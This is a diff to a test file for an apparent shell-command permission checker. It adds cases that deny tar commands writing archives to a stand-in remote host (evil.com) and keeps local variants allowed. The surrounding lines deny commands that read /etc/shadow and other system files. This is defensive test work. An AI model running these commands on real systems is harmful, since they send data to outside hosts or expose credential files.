@@ -292,6 +292,8 @@ describe('options that run, read or write: fourth review', () => {
     ['zcmp /etc/shadow y', 'deny'], ['zipgrep x /etc/x.zip', 'deny'], ['zipinfo /etc/x.zip', 'deny'], ['funzip /etc/g.gz', 'deny'], ['lzcat /etc/x', 'deny'],
     ['pigz -dc /etc/x', 'deny'], ['unpigz -c /etc/x', 'deny'], ['brotli -dc /etc/x', 'deny'], ['zipsplit -b /etc a.zip', 'deny'],
     ['zipcloak -O /etc/x a.zip', 'deny'], ['gzexe /etc/x', 'deny'], ['zip -b /etc a.zip f', 'deny'], ['zip --temp-path=/etc a.zip f', 'deny'],
+    // tar's remote archive `[user@]host:file` reaches the host (rsh host rmt).
+    ['tar -cf evil.com:x x', 'deny'], ['tar -cf u@evil.com:/dev/st0 x', 'deny'], ['tar --file=evil.com:x -c x', 'deny'], ['tar xf evil.com:x', 'deny'],
     ['7z x a.7z -w/etc', 'deny'], ['7z a -i@/etc/shadow a.7z', 'deny'], ['7z a a.7z @list', 'ask'], ['hd /etc/shadow', 'deny'], ['dircolors /etc/shadow', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
@@ -304,7 +306,7 @@ describe('options that run, read or write: fourth review', () => {
     'git merge-file a b c', 'git merge-file -L x -L y -L z a b c', 'git mailsplit -oout mbox', 'git rev-list --all', 'git bugreport', 'git fast-import --export-marks=m',
     'git --git-dir=.git --work-tree=. status', 'openssl pkcs12 -provider legacy -provider default -in a.p12', 'openssl dgst -engine pkcs11 f', 'openssl engine',
     'vim -i NONE f', 'vim -V9 f', 'less -N f', 'less -p pat f', 'less -R -S f', 'info ls',
-    'pigz f', 'bzgrep x f.bz2', '7z x a.7z'])('%s stays allowed', (line) => {
+    'pigz f', 'bzgrep x f.bz2', '7z x a.7z', 'tar --force-local -cf evil.com:x x', 'tar -cf ./evil.com:x x', 'tar czf out.tar.gz src'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
